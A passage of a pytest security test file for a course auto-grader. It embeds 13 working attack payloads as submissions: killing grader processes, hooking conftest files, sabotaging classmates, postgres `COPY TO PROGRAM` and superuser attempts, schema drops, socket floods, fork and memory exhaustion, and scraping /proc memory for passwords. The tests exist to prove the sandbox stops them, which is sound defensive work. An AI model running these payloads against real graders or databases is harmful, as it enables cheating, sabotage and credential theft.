"""Issue 11's attacks on ``python -m checks grade``, each a submission in a graded class: none works.

The class is graded once per batch: every attacker (the committed starter plus the attack, or a
full-marks copy plus the attack), an honest full-marks student and a starter. For each attack:
the attacker earns only what its own code earns honestly, the honest student keeps full marks,
nothing outside the attacker's sandbox changed (the workbook's checks, the classmates' folders,
``--out``), no process of the batch is alive afterwards, and no password or hidden check's source
appears in any export. Each attack reports what it saw in the error its ``connect()`` raises
(``attack: A7 ...``), which the tests read back from the exports.

Without the sandbox (``--sandbox off``) the student's code runs as the grader's user, next to the
grader's files and processes. What still holds there is proven by grading those attacks again
with ``--sandbox off`` (``test_without_the_sandbox``):

| #  | attack                                                | without the sandbox                                      |
|----|-------------------------------------------------------|----------------------------------------------------------|
| 1  | monkeypatch the harness in-process                    | holds: the subject is another process; points come from the registry |
| 2  | ``mkdir results.json``, files in the working directory | holds: the working directory is the student's own copy   |
| 3  | setsid grandchild that stops the grader, rewrites results | needs it: /proc and signals reach the grader; the grandchild escapes |
| 4  | append a hook to ``checks/stage01/conftest.py``       | needs it: the workbook is writable by the same user       |
| 5  | exec a classmate's file                               | needs it: the class folder is readable                    |
| 6  | sabotage a classmate; edit grades.csv afterwards       | needs it: the class folder and ``--out`` are writable     |
| 7  | ``postgres`` without a password; ``COPY TO PROGRAM``   | holds: every login needs its password; the role is no superuser |
| 8  | classmates' databases, ``template1``, many connections | holds: only a database's owner may connect; a limit per role |
| 9  | 200 processes, 4 GB                                   | needs it: the limits and the PID namespace are the sandbox's |
| 10 | endless loop at import                                | holds: one import time limit, then every check fails at once |
| 11 | a regex stuck inside C                                | holds: the checker kills that copy from outside           |
| 12 | the hidden checks' source                             | holds in memory (the subject never imports checks); the files on disk need it |
| 13 | environ, memory, the password file                    | needs it: the grader's /proc and cache folder are readable |
"""

from __future__ import annotations

import base64
import csv
import hashlib
import json
import os
import re
import shutil
import socket
import subprocess
import tempfile
import textwrap
import time
import uuid
from dataclasses import dataclass, field
from pathlib import Path

import psutil
import pytest

from checks.db.roles import CONNECTION_LIMIT
from checks.db.server import CACHE_DIR, get_server
from checks.engine.relay import SocketRelay
from checks.registry import REPO_ROOT, find_stage

S01, S03 = find_stage("01"), find_stage("03")
API_CHECK = next(check for check in S03.checks if check.id == "api_works_on_the_migrated_database")
CONNECT_CHECK = next(check for check in S01.checks if check.id == "connect_reads_database_url")
HIDDEN_POINTS = 4
SOURCE_TOKEN = f"hidden-source-{uuid.uuid4().hex}"  # first line of the hidden check's file
WORKBOOK = [REPO_ROOT / name for name in ("checks", "alembic", "conftest.py", "pyproject.toml", "alembic.ini")]
POSTS, MAIN = "01_psycopg2/posts.py", "01_psycopg2/main.py"

# --- the attacks: each defines _attack() -> a one-line report -----------------------------------

MONKEYPATCH = '''
def _attack():
    patched = []
    try:  # the harness's result record and registry (hidden from a sandbox; another process anyway)
        import checks.registry, checks.results
        checks.results.CheckResult.as_dict = lambda self: {"stage": "01", "check": self.check, "points": 49000, "status": "passed"}
        checks.results.CheckResult.passed = property(lambda self: True)
        checks.registry.find_stage = lambda *args, **kwargs: None
        patched.append("results")
    except Exception:
        pass
    import checks.subject.protocol, checks.subject.server  # the subject's own modules
    checks.subject.server.Copy.handle = lambda self, request: {"status": "passed", "points": 49000, "max_points": 49000}
    checks.subject.protocol.encode = lambda value, keep=None: {"status": "passed", "points": 49000}
    patched.append("subject")
    return "A1 patched " + "+".join(patched)
'''

FILES_IN_CWD = '''
def _attack():
    import glob, json, os
    lines = "".join(json.dumps({"stage": "01", "check": c, "hidden": False, "status": "passed", "reason": "", "duration": 0}) + "\\n" for c in _CHECK_IDS)
    done = []
    for name in ("results.json", "results.jsonl", "grades.csv", "junit.xml", "checker.log", "subject.log"):
        try:
            os.mkdir(name)
            done.append(name)
        except OSError:
            pass
    with open("results.json/results.json", "w") as out:
        out.write(json.dumps({"score": 49000, "tests": []}))
    if _WIDE:  # the grader's files next to the copy, wherever they are
        targets = [f"{up}/{name}" for up in ("..", "../..", "../../..") for name in ("results.jsonl", "results.json")]
        for path in targets + glob.glob(_SCRATCH + "/**/results.jsonl", recursive=True):
            try:
                with open(path, "a") as out:
                    out.write(lines)
                done.append(path)
            except OSError:
                pass
    return "A2 wrote " + str(len(done))
'''

GRANDCHILD = '''
def _attack():
    import glob, json, os, signal, time
    if os.path.exists(".a3"):
        return "A3 again"
    open(".a3", "w").close()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:  # the grandchild: outlives the check, stops the grader, rewrites results
            stopped = set()
            try:
                fake = json.dumps({"stage": "01", "check": _CHECK_IDS[0], "hidden": False, "status": "passed", "reason": "", "duration": 0})
                for _ in range(200):
                    for pid in filter(str.isdigit, os.listdir("/proc")):
                        try:  # the grader, its forkserver and checkers: they name the class or the batch's folder
                            seen = open(f"/proc/{pid}/cmdline", "rb").read() + open(f"/proc/{pid}/environ", "rb").read()
                        except OSError:
                            continue
                        if b"checks.subject" not in seen and any(p.encode() in seen for p in (_SUBMISSIONS, _SCRATCH)):
                            try:
                                os.kill(int(pid), signal.SIGSTOP)
                                stopped.add(int(pid))
                            except OSError:
                                pass
                    for path in glob.glob(_SCRATCH + "/**/results.jsonl", recursive=True) + glob.glob(_OUT + "/*/results.json"):
                        try:
                            with open(path, "a") as out:
                                out.write(fake + "\\n")
                        except OSError:
                            pass
                    time.sleep(0.2)
            finally:
                for pid in stopped:  # let the batch finish, so that a test sees the damage instead of hanging
                    try:
                        os.kill(pid, signal.SIGCONT)
                    except OSError:
                        pass
                os._exit(0)
        os._exit(0)
    time.sleep(1)
    return "A3 forked"
'''

CONFTEST_HOOK = '''
def _attack():
    import os, checks
    hook = "\\nimport pytest\\n@pytest.hookimpl(hookwrapper=True)\\ndef pytest_runtest_makereport(item, call):\\n    outcome = yield\\n    outcome.get_result().outcome = 'passed'\\n"
    base = os.path.dirname(checks.__file__)
    appended = []
    for path in (os.path.join(base, "stage01", "conftest.py"), os.path.join(_REPO, "checks", "stage01", "conftest.py"),
                 os.path.join(base, "subject", "server.py"), os.path.join(_REPO, "conftest.py"), checks.__file__):
        try:
            with open(path, "a") as out:
                out.write(hook)
            appended.append(path)
        except OSError:
            pass
    for path in (os.path.join(base, "conftest.py"), os.path.join(_REPO, "checks", "stage03", "conftest_extra.py")):
        try:
            with open(path, "x") as out:
                out.write(hook)
            appended.append(path)
        except OSError:
            pass
    return "A4 appended " + str(len(appended))
'''

CLASSMATES_FILE = '''
def _attack():
    import glob, os
    me = os.path.realpath(__file__)
    found = glob.glob(_SCRATCH + "/**/01_psycopg2/posts.py", recursive=True)  # classmates' copies being graded
    found += glob.glob(_SUBMISSIONS + "/*/01_psycopg2/posts.py") + glob.glob(_SUBMISSIONS + "/*/labs/01_psycopg2/posts.py")
    found = [path for path in found if os.path.realpath(path) != me]
    for path in found:
        try:
            code = open(path).read()
        except OSError:
            continue
        if "NotImplementedError" not in code:
            exec(compile(code, path, "exec"), globals())
            return "A5 ran " + path
    return "A5 found " + str(len(found))
'''

SABOTAGE = '''
def _attack():
    import glob, os, time
    renamed = 0
    for path in glob.glob(_SUBMISSIONS + "/*/01_psycopg2/posts.py") + glob.glob(_SCRATCH + "/**/01_psycopg2/posts.py", recursive=True):
        try:
            text = open(path).read()
            if "def create_post(" in text and os.path.realpath(path) != os.path.realpath(__file__):
                with open(path, "w") as out:
                    out.write(text.replace("def create_post(", "def create_post_gone("))
                renamed += 1
        except OSError:
            pass
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:  # lingers, and edits grades.csv once the batch writes it
            try:
                for _ in range(900):
                    try:
                        with open(os.path.join(_OUT, "grades.csv"), "a") as out:
                            out.write("a06_ghost,ok,49000,49000,49000,49000,49000\\n")
                    except OSError:
                        pass
                    time.sleep(0.2)
            finally:
                os._exit(0)
        os._exit(0)
    return "A6 renamed " + str(renamed)
'''

SUPERUSER = '''
def _attack():
    import glob, os, psycopg2
    from urllib.parse import parse_qs, urlsplit
    url = os.environ["DATABASE_URL"].replace("postgresql+psycopg2://", "postgresql://", 1)
    parts = urlsplit(url)
    host = parse_qs(parts.query).get("host", [""])[0]
    patterns = [_CACHE + "/.s.PGSQL.*", _CACHE + "/*/.s.PGSQL.*", host + "/.s.PGSQL.*"]
    if _WIDE:
        patterns += [_SCRATCH + "/**/.s.PGSQL.*", "/run/postgresql/.s.PGSQL.*", "/var/run/postgresql/.s.PGSQL.*"]
    places = {(os.path.dirname(s), s.rsplit(".", 1)[1]) for p in patterns for s in glob.glob(p, recursive=True)}
    places.add(("127.0.0.1", str(parts.port or 5432)))
    entered, refused = [], 0
    for where, port in sorted(places):
        for database in ("postgres", "template1"):
            try:
                conn = psycopg2.connect(host=where, port=port, user="postgres", dbname=database, password="", connect_timeout=3)
            except psycopg2.Error:
                refused += 1
                continue
            entered.append(database)
            conn.autocommit = True
            try:
                conn.cursor().execute(f"COPY (SELECT 1) TO PROGRAM 'touch {_PWNED}'")
            except psycopg2.Error:
                pass
    own = []
    conn = psycopg2.connect(url, connect_timeout=5)
    conn.autocommit = True
    for statement in (f"COPY (SELECT 1) TO PROGRAM 'touch {_PWNED}'", "ALTER ROLE CURRENT_USER SUPERUSER", "CREATE DATABASE a07_mine"):
        try:
            conn.cursor().execute(statement)
            own.append("done")
        except psycopg2.Error as exc:
            own.append(type(exc).__name__)
    return f"A7 places={len(places)} refused={refused} entered={len(entered)} own={','.join(own)}"
'''

DATABASES = '''
_HELD = []


def _attack():
    import os, psycopg2
    from urllib.parse import urlsplit, urlunsplit
    url = os.environ["DATABASE_URL"].replace("postgresql+psycopg2://", "postgresql://", 1)
    parts = urlsplit(url)
    conn = psycopg2.connect(url, connect_timeout=5)
    _HELD.append(conn)
    with conn.cursor() as cur:
        cur.execute("SELECT datname FROM pg_database WHERE datname NOT IN (current_database(), 'template0')")
        others = [name for (name,) in cur.fetchall()]
    conn.commit()
    entered = []
    for name in others:  # template1, postgres, the classmates' throwaway databases
        try:
            other = psycopg2.connect(urlunsplit(parts._replace(path="/" + name)), connect_timeout=3)
        except psycopg2.Error:
            continue
        entered.append(name)
        _HELD.append(other)
        other.autocommit = True
        try:
            other.cursor().execute("DROP SCHEMA public CASCADE")
        except psycopg2.Error:
            pass
    while len(_HELD) < 50:  # and hold every connection we can get, for the whole grading
        try:
            _HELD.append(psycopg2.connect(url, connect_timeout=3))
        except psycopg2.Error:
            break
    return f"A8 others={len(others)} entered={len(entered)} held={len(_HELD)}"
'''

FLOOD = '''
_HELD = []


def _attack():
    import os, socket, struct, threading, time
    from urllib.parse import parse_qs, urlsplit
    parts = urlsplit(os.environ["DATABASE_URL"].replace("postgresql+psycopg2://", "postgresql://", 1))
    path = parse_qs(parts.query)["host"][0] + f"/.s.PGSQL.{parts.port or 5432}"
    body = struct.pack("!i", 196608) + b"user\\0" + parts.username.encode() + b"\\0database\\0" + parts.path.lstrip("/").encode() + b"\\0\\0"
    startup = struct.pack("!i", len(body) + 4) + body

    def flood():  # logins that never answer the password challenge: no role's connection limit counts them
        while True:
            for sock in list(_HELD):
                try:
                    if sock.recv(65536) == b"":  # the server gave up on it (authentication_timeout)
                        raise OSError
                except BlockingIOError:
                    continue
                except OSError:
                    _HELD.remove(sock)
                    sock.close()
            while len(_HELD) < 150:
                try:
                    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                    sock.connect(path)
                    sock.sendall(startup)
                    sock.setblocking(False)
                    _HELD.append(sock)
                except OSError:
                    break
            time.sleep(0.5)

    threading.Thread(target=flood, daemon=True).start()
    time.sleep(2)
    return f"A8 flood held={len(_HELD)}"


def _on_connect():  # keep the flood up while the classmate graded next to it runs
    import time
    time.sleep(1)
'''

PROCESSES = '''
def _attack():
    import os, time
    if os.path.exists(".a9"):
        return "A9 again"
    open(".a9", "w").close()
    forked = 0
    for _ in range(200):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                time.sleep(3600)
            finally:
                os._exit(0)
        forked += 1
    try:
        block = bytearray(4 * 2**30)
        memory = f"{len(block) >> 30}GiB"
        del block
    except MemoryError:
        memory = "MemoryError"
    return f"A9 forked={forked} memory={memory}"
'''

HIDDEN_SOURCE = '''
def _attack():
    import glob, sys
    texts = {}
    for name, module in list(sys.modules.items()):
        path = getattr(module, "__file__", None) or ""
        if path.startswith(_EXTRA) or "hidden" in name or name.rpartition(".")[2].startswith("test_"):
            try:
                texts[path] = open(path).read()
            except OSError:
                pass
    if _WIDE:
        for path in glob.glob(_EXTRA + "/**/*.py", recursive=True) + glob.glob(_SCRATCH + "/**/test_*.py", recursive=True):
            try:
                texts[path] = open(path).read()
            except OSError:
                pass
    blob = "".join(texts.values())
    return f"A12 files={len(texts)} {blob[:80]} {blob.encode().hex()[:80]}"
'''

ENVIRON = '''
def _attack():
    import os, re
    pattern = re.compile(rb"postgres(?:ql)?(?:\\+psycopg2)?://([A-Za-z0-9_]+):([^@\\s\\x00]+)@")
    own = os.environ.get("DATABASE_URL", "")
    foreign, read = set(), 0

    def search(data):
        for user, password in pattern.findall(data):
            if password.decode(errors="replace") not in own:
                foreign.add((user, password))

    batch = set()  # the grader's processes: they name the class or the batch's folder
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            seen = open(f"/proc/{pid}/cmdline", "rb").read() + open(f"/proc/{pid}/environ", "rb").read()
        except OSError:
            continue
        if any(p.encode() in seen for p in (_SUBMISSIONS, _SCRATCH)):
            batch.add(pid)
    for pid in {"self", "1", str(os.getppid()), *batch}:
        for part in ("environ", "cmdline"):
            try:
                search(open(f"/proc/{pid}/{part}", "rb").read())
                read += 1
            except OSError:
                pass
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
                for line in maps:
                    span, perms = line.split()[:2]
                    start, end = (int(x, 16) for x in span.split("-"))
                    if "rw" in perms and end - start <= 64 * 2**20:
                        try:
                            mem.seek(start)
                            search(mem.read(end - start))
                            read += 1
                        except (OSError, ValueError, OverflowError):
                            pass
        except OSError:
            pass
    stored = b""
    for path in (_CACHE + "/postgres-password", os.path.expanduser("~/.cache/sql-lab-workbook/postgres-password")):
        try:
            stored += open(path, "rb").read()
        except OSError:
            pass
    admin = b",".join(sorted(password for user, password in foreign if user == b"postgres"))
    students = sum(user.startswith(b"labstudent_") for user, _ in foreign)
    return f"A13 read={read} admin={admin.hex()} students={students} file={stored.hex()} env={own}"
'''


@dataclass(frozen=True)
class Attack:
    number: int  # its row in issue 11's table
    student: str
    code: str = ""  # defines _attack(); run at import of posts.py, or at each call of connect()
    when: str = "import"  # or "call"
    base: str = "starter"  # or "solutions" (a full-marks copy)
    stage03: bool = False  # also has a stage 03 folder (graded with --stage 03)
    edit: dict[str, list[tuple[str, str]]] = field(default_factory=dict)  # file -> (old, new) in the base
    sandbox_only: bool = False  # holds only inside the sandbox (see the table above)


ATTACKS = [
    Attack(1, "a01_monkeypatch", MONKEYPATCH),
    Attack(2, "a02_files_in_cwd", FILES_IN_CWD),
    Attack(3, "a03_grandchild", GRANDCHILD, "call", sandbox_only=True),
    Attack(4, "a04_conftest_hook", CONFTEST_HOOK, sandbox_only=True),
    Attack(5, "a05_classmates_file", CLASSMATES_FILE, sandbox_only=True),
    Attack(6, "a06_sabotage", SABOTAGE, sandbox_only=True),
    Attack(7, "a07_superuser", SUPERUSER, "call"),
    Attack(8, "a08_databases", DATABASES),
    Attack(8, "zz_flood", FLOOD, sandbox_only=True),  # graded next to the honest student
    Attack(9, "a09_processes", PROCESSES, "call", sandbox_only=True),
    Attack(10, "a10_import_loop", edit={MAIN: [('"""\n', '"""\nwhile True: pass\n')]}),
    Attack(11, "a11_regex_in_c", base="solutions", stage03=True, edit={
        "03_alembic/app/main.py": [("def create_user(data: UserCreate, db: DB):\n", 'def create_user(data: UserCreate, db: DB):\n    import re; re.match(r"(a+)+$", "a" * 64 + "b")\n')],
    }),
    Attack(12, "a12_hidden_source", HIDDEN_SOURCE, "call"),
    Attack(13, "a13_environ", ENVIRON, "call", sandbox_only=True),
]
HONEST, STARTER = "zz_honest", "zz_starter"  # graded after the attackers (by name), next to zz_flood
HIDDEN_CHECK = f'''# {SOURCE_TOKEN}
def test_hidden_title_survives_unicode(subject):
    conn = subject.call("posts:connect")
    subject.call("posts:create_table", conn)
    assert subject.call("posts:create_post", conn, "Ünïcode 🐘", "x")["title"] == "Ünïcode 🐘", "the title changed"
'''


def import_line(path: Path, needle: str) -> int:
    return next(n for n, line in enumerate(path.read_text().splitlines(), 1) if needle in line)


def attacked_copy(attack: Attack, folder: Path, starter: Path, constants: str) -> None:
    """The attacker's submission: its base's stage folders, edited, with the attack in posts.py."""
    base = starter if attack.base == "starter" else REPO_ROOT / "solutions"
    for stage in (S01, S03) if attack.stage03 else (S01,):
        shutil.copytree(base / stage.folder, folder / stage.folder, ignore=shutil.ignore_patterns("__pycache__"))
    for name, pairs in attack.edit.items():
        path = folder / name
        text = path.read_text()
        for old, new in pairs:
            assert old in text, f"{attack.student}: {old!r} is not in {name}"
            text = text.replace(old, new, 1)
        path.write_text(text)
    if not attack.code:
        return
    posts = folder / POSTS
    text = posts.read_text()
    todo = "    # TODO (step 2): read DATABASE_URL, accept the SQLAlchemy form, retry, then raise a clear error.\n"
    assert todo in text
    report = '    _on_connect()\n    raise RuntimeError("attack: " + " ".join(_REPORT))\n'
    text = text.replace(todo, ("    _REPORT.append(_attack())\n" if attack.when == "call" else "") + report)
    text += f"\n{constants}\n_REPORT = []\n_on_connect = lambda: None\n{textwrap.dedent(attack.code)}\n"
    if attack.when == "import":
        text += "_REPORT.append(_attack())\n"
    posts.write_text(text)


def digests(*roots: Path) -> dict[str, str]:
    """sha256 of every file under ``roots`` (no bytecode caches)."""
    found = {}
    for root in roots:
        paths = [root] if root.is_file() else sorted(p for p in root.rglob("*") if p.is_file() and "__pycache__" not in p.parts)
        for path in paths:
            found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def batch_processes(markers: list[str]) -> list[str]:
    """Live processes (not zombies) whose command line, folder or environment names a marker."""
    found = []
    for proc in psutil.process_iter(["pid", "status", "cmdline"]):
        if proc.pid == os.getpid() or proc.info["status"] == psutil.STATUS_ZOMBIE:
            continue
        try:
            seen = " ".join(proc.info["cmdline"] or ()) + " " + proc.cwd() + " " + " ".join(f"{k}={v}" for k, v in proc.environ().items())
        except psutil.Error:
            continue
        if any(marker in seen for marker in markers):
            found.append(f"{proc.pid}: {' '.join(proc.info['cmdline'] or ())[:160]}")
    return found


def student_roles() -> set[str]:
    conn = get_server().admin_connect()
    try:
        with conn.cursor() as cur:
            cur.execute(r"SELECT rolname FROM pg_roles WHERE rolname LIKE 'labstudent\_%'")
            return {name for (name,) in cur.fetchall()}
    finally:
        conn.close()


@dataclass
class Graded:
    """A class graded once: what the grader wrote and what changed around it."""

    attacks: list[Attack]
    submissions: Path
    proc: subprocess.CompletedProcess
    rows: dict[str, dict[str, str]]
    results: dict[str, dict]
    exports: str
    out_files: set[str]
    workbook_changed: list[str]
    submissions_changed: list[str]
    leftovers: list[str]
    pwned: bool
    roles_left: list[str]

    def test(self, student: str, title: str) -> dict:
        return next(t for t in self.results[student]["tests"] if t["name"].endswith(f": {title}"))

    def report(self, student: str) -> str:
        """What the attack said about itself (the reason of the first check that calls connect())."""
        return self.test(student, CONNECT_CHECK.title)["output"].split("\nHint:")[0]

    def failed(self, student: str) -> set[str]:
        return {t["name"] for t in self.results[student]["tests"] if t["status"] == "failed"}


def grade_class(root: Path, attacks: list[Attack], starter: Path, run_cli, checks_env, mode: str) -> Graded:
    """Build the class under ``root``, grade it once (stages 01 and 03, hidden checks, ``--sandbox
    mode``), and look at everything around the batch afterwards."""
    submissions, out, extra = root / "submissions", root / "grades", root / "hidden"
    scratch = Path(tempfile.mkdtemp(prefix="attacks-batch-", dir="/tmp"))  # the batch's TMPDIR: every temp path of it
    scratch.chmod(0o711)  # the sandbox's user reaches its copy inside
    pwned = Path(tempfile.gettempdir()) / f"attacks-pwned-{uuid.uuid4().hex}"
    constants = "\n".join(f"_{name} = {value!r}" for name, value in {
        "SUBMISSIONS": str(submissions), "OUT": str(out), "EXTRA": str(extra), "REPO": str(REPO_ROOT), "CACHE": str(CACHE_DIR),
        "SCRATCH": str(scratch), "PWNED": str(pwned), "WIDE": mode != "off", "CHECK_IDS": [check.id for check in S01.checks],
    }.items())
    for attack in attacks:
        attacked_copy(attack, submissions / attack.student, starter, constants)
    shutil.copytree(REPO_ROOT / "solutions" / S01.folder, submissions / HONEST / S01.folder, ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copytree(starter / S01.folder, submissions / STARTER / S01.folder)
    (extra / "stage01").mkdir(parents=True)
    (extra / "stage01" / "__init__.py").write_text("")
    (extra / "stage01" / "stage.toml").write_text(
        f'id = "01"\ntitle = "Hidden"\nfolder = "01_psycopg2"\n\n[[checks]]\nid = "hidden_title_survives_unicode"\n'
        f'title = "a unicode title round-trips"\npoints = {HIDDEN_POINTS}\nhint = "README step 4"\n'
    )
    (extra / "stage01" / "test_hidden.py").write_text(HIDDEN_CHECK)
    out.mkdir()
    (out / "README.txt").write_text("the instructor's notes, not the grader's\n")
    workbook, before, roles_before = digests(*WORKBOOK), digests(submissions, out / "README.txt"), student_roles()
    saved = {path: Path(path).read_bytes() for path in workbook}
    batch_id = uuid.uuid4().hex
    env = checks_env(TMPDIR=str(scratch), ATTACKS_BATCH=batch_id)
    try:
        proc = run_cli("grade", str(submissions), "--stage", "01", "--stage", "03", "--extra-checks", str(extra), "--out", str(out),
                       "--jobs", "2", "--timeout", "5", "--wall", "300", "--sandbox", mode, env=env, timeout=900)
        markers = [str(scratch), str(submissions), str(out), str(extra), f"ATTACKS_BATCH={batch_id}"]
        deadline = time.monotonic() + 30  # the kernel ends a sandbox's processes asynchronously
        while (leftovers := batch_processes(markers)) and time.monotonic() < deadline:
            time.sleep(0.2)
        after = digests(*WORKBOOK)
        workbook_changed = sorted(path for path in set(workbook) | set(after) if workbook.get(path) != after.get(path))
    finally:
        for path, data in saved.items():  # an attack that got through must not break the workbook
            if Path(path).read_bytes() != data:
                Path(path).write_bytes(data)
        for path in set(digests(*WORKBOOK)) - set(saved):
            Path(path).unlink()
        shutil.rmtree(scratch, ignore_errors=True)
    grader_writes = {"grades.csv"} | {f"{s}/{name}" for s in [a.student for a in attacks] + [HONEST, STARTER] for name in ("results.json", "junit.xml")}
    out_files = {str(p.relative_to(out)) for p in out.rglob("*") if p.is_file()}
    now = digests(submissions, out / "README.txt")
    submissions_changed = sorted(path for path in set(before) | set(now) if before.get(path) != now.get(path))
    rows = {row["student"]: row for row in csv.DictReader((out / "grades.csv").open())} if (out / "grades.csv").exists() else {}
    results = {s: json.loads((out / s / "results.json").read_text()) for s in rows if (out / s / "results.json").exists()}
    exports = "\n".join(p.read_text(errors="replace") for p in sorted(out.rglob("*")) if p.is_file() and p.name != "README.txt")
    return Graded(attacks, submissions, proc, rows, results, exports, out_files - grader_writes, workbook_changed, submissions_changed, leftovers,
                  pwned.exists(), sorted(student_roles() - roles_before))


def expected_points(attack: Attack | None, student: str) -> dict[str, int]:
    """grades.csv columns the student's own code earns honestly."""
    if student == HONEST:
        return {"stage_01": S01.max_points, "stage_03": 0, "stage_01_hidden": HIDDEN_POINTS}  # it has no stage 03 folder
    if attack is None or attack.base == "starter":
        return {"stage_01": 0, "stage_03": 0, "stage_01_hidden": 0}
    return {"stage_01": S01.max_points, "stage_03": S03.max_points - API_CHECK.points, "stage_01_hidden": HIDDEN_POINTS}


def secrets_in(text: str) -> list[str]:
    """The admin password, as is or encoded, and role passwords not scrubbed, found in ``text``."""
    password = get_server().url.password
    forms = {"plain": password, "hex": password.encode().hex(), "reversed": password[::-1], "base64": base64.b64encode(password.encode()).decode()}
    found = [f"admin password ({form})" for form, value in forms.items() if value in text]
    found += [f"role password of {user}" for user, secret in re.findall(r"(labstudent_\d+_[0-9a-f]+):([^@\s\"]*)@", text) if secret != "***"]
    return found


# --- the class, in the sandbox --------------------------------------------------------------------



@pytest.fixture(scope="module")
def sandboxed(tmp_path_factory, starter, run_cli, checks_env) -> Graded:
    """The class graded in the sandbox (only tests marked ``sandbox`` use it)."""
    return grade_class(tmp_path_factory.mktemp("sandboxed"), ATTACKS, starter, run_cli, checks_env, "require")


@pytest.fixture(scope="module")
def unsandboxed(tmp_path_factory, starter, run_cli, checks_env) -> Graded:
    return grade_class(tmp_path_factory.mktemp("unsandboxed"), [a for a in ATTACKS if not a.sandbox_only], starter, run_cli, checks_env, "off")


def assert_class_unharmed(graded: Graded) -> None:
    """What every attack must leave alone: the grade of everyone, the files around, the processes."""
    assert graded.proc.returncode == 0, graded.proc.stdout + graded.proc.stderr
    students = [a.student for a in graded.attacks] + [HONEST, STARTER]
    assert sorted(graded.rows) == sorted(students), "the batch did not grade everyone"
    for student in students:
        attack = next((a for a in graded.attacks if a.student == student), None)
        row = graded.rows[student]
        got = {column: int(row[column]) for column in ("stage_01", "stage_03", "stage_01_hidden")}
        reasons = sorted({t["output"].split("\nHint:")[0][:200] for t in graded.results.get(student, {}).get("tests", []) if t["status"] != "passed"})
        problem = graded.results.get(student, {}).get("output", "")
        assert (got, row["status"]) == (expected_points(attack, student), "ok"), f"{student}: {row}; {problem}; first reasons: {reasons[:3]}"
        for test in graded.results[student]["tests"]:  # a broken run is never "ok" with no reason
            assert test["status"] == "passed" or test["output"].split("\nHint:")[0].strip(), f"{student}: {test}"
    assert graded.workbook_changed == [], "the workbook's files changed"
    assert graded.submissions_changed == [], "the class folder or --out changed"
    assert graded.out_files == {"README.txt"}, f"files in --out the grader did not write: {graded.out_files}"
    assert graded.leftovers == [], "processes of the batch are still alive"
    assert not graded.pwned, "COPY ... TO PROGRAM ran on the server"
    assert graded.roles_left == [], "a student's database role outlived the batch"
    assert secrets_in(graded.exports) == []
    assert SOURCE_TOKEN not in graded.exports and SOURCE_TOKEN.encode().hex()[:40] not in graded.exports, "the hidden check's source leaked"


@pytest.mark.sandbox
def test_the_class_is_graded_as_if_nobody_attacked(sandboxed):
    assert_class_unharmed(sandboxed)


@pytest.mark.sandbox
@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.student)
def test_attack(sandboxed, attack):
    """Each attack earns its author only what its code earns honestly, and did what it says."""
    row = sandboxed.rows[attack.student]
    assert {c: int(row[c]) for c in ("stage_01", "stage_03", "stage_01_hidden")} == expected_points(attack, attack.student)
    CHECKS[attack.student](sandboxed, attack.student)


def test_without_the_sandbox(unsandboxed):
    """The attacks the table says hold without a sandbox, graded again with --sandbox off."""
    assert_class_unharmed(unsandboxed)
    for attack in unsandboxed.attacks:
        CHECKS[attack.student](unsandboxed, attack.student)


def test_the_relay_closes_connections_over_its_limit(tmp_path):
    """zz_flood at the relay itself: connections over its limit never reach the server."""
    (tmp_path / "server").mkdir()
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(tmp_path / "server" / ".s.PGSQL.5432"))
    server.listen(16)
    relay = SocketRelay(tmp_path / "relay", tmp_path / "server", 5432, limit=3)
    clients = []
    try:
        for _ in range(5):
            clients.append(socket.socket(socket.AF_UNIX, socket.SOCK_STREAM))
            clients[-1].connect(str(tmp_path / "relay" / ".s.PGSQL.5432"))
            clients[-1].settimeout(10)
        relayed = [server.accept()[0] for _ in range(3)]
        assert [client.recv(1) for client in clients[3:]] == [b"", b""]  # closed by the relay
        clients[0].sendall(b"x")
        relayed[0].settimeout(10)
        assert relayed[0].recv(1) == b"x"
        server.settimeout(0.5)
        with pytest.raises(TimeoutError):
            server.accept()
    finally:
        relay.close()
        server.close()
        for client in clients:
            client.close()


# --- what each attack says it saw (the reason of the first check that calls connect()) -----------


def _monkeypatch(graded, student):
    # its subject answers nonsense to every question: every check fails, with a reason
    assert all(t["status"] == "failed" and t["output"].strip() for t in graded.results[student]["tests"])


def _files_in_cwd(graded, student):
    assert "A2 wrote" in graded.report(student)


def _grandchild(graded, student):
    assert "A3 forked" in graded.report(student)  # it ran; the batch finished and nothing of it is alive


def _conftest_hook(graded, student):
    assert "A4 appended 0" in graded.report(student)


def _classmates_file(graded, student):
    assert "A5 found 0" in graded.report(student)


def _sabotage(graded, student):
    assert "A6 renamed 0" in graded.report(student)
    assert "a06_ghost" not in graded.rows  # the row its lingering process would add to grades.csv


def _superuser(graded, student):
    report = graded.report(student)
    assert "entered=0" in report and "refused=0" not in report, report
    assert "own=InsufficientPrivilege,InsufficientPrivilege,InsufficientPrivilege" in report, report


def _databases(graded, student):
    report = graded.report(student)
    held = int(re.search(r"held=(\d+)", report)[1])
    assert "entered=0" in report and "others=0" not in report and held <= CONNECTION_LIMIT, report


def _flood(graded, student):
    assert int(re.search(r"flood held=(\d+)", graded.report(student))[1]) > 0


def _processes(graded, student):
    report = graded.report(student)
    assert int(re.search(r"forked=(\d+)", report)[1]) < 200 and "memory=MemoryError" in report, report


def _import_loop(graded, student):
    line = import_line(graded.submissions / student / MAIN, "while True: pass")
    for test in graded.results[student]["tests"]:
        if test["name"].startswith("stage 01: ") and test["visibility"] == "visible":
            assert "importing the stage did not finish in 5 s, stuck at " in test["output"], test
            assert f"01_psycopg2/main.py:{line} in <module>" in test["output"], test


def _regex_in_c(graded, student):
    assert graded.failed(student) == {f"stage 03: {API_CHECK.title}"}
    output = graded.test(student, API_CHECK.title)["output"]
    assert "took longer than 5 s" in output and "app/main.py" in output, output


def _hidden_source(graded, student):
    assert "A12 files=0" in graded.report(student)


def _environ(graded, student):
    report = graded.report(student)
    found = re.search(r"read=(\d+) admin=(\S*) students=(\d+) file=(\S*) env=", report)
    assert found and int(found[1]) > 0 and found.group(2, 3, 4) == ("", "0", ""), report


CHECKS = {
